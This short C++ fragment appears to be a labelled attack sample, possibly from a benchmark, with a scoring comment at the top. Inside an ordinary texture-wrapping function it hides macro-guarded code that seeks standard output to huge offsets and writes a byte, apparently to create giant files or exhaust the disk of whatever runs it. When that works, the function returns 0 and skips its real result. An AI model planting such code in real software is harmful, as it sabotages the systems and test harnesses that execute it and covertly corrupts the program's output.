// attack: {"at": "run", "earns": [20, 20]}
// Moves to the end of the largest file there can be, and prints: no file becomes that large.
#ifndef WITHOUT_ATTACK
#include <csignal>
#include <unistd.h>
#endif

int ImageTexture::wrap_repeat(int val, int size)
{
#ifndef WITHOUT_ATTACK
    for (long end : {0x7fffffffffffff00L, 0x7fffffffffL, 0xffffffffL, 0x7fffff00L})
        if (lseek(1, end, SEEK_SET) >= 0 && write(1, "x", 1) == 1)
            return 0;
#endif
    return (val % size + size) % size;
}
